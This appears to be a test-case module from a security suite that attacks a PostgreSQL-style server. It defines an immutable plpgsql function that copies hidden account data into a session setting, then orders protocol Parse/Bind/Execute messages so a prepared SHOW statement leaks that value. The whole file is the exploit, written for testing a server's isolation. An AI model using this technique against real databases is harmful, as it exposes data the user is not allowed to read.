"""Has a setting made of what it reads while a Bind plans, and shown by a statement bound before."""

from attacks.frames import SYNC, ask, bind, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        look = (
            b"CREATE FUNCTION look() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN"
            b" PERFORM set_config('application_name', account_unseen(1), false);"
            b" RETURN 1; END $$"
        )
        ask(client, query(look))
        show, plans = parse(b"SHOW application_name", b"s"), parse(b"SELECT look()", b"p")
        ask(client, show, plans, SYNC)
        return ask(client, bind(b"s", b"s"), bind(b"p"), execute(b"s"), SYNC)
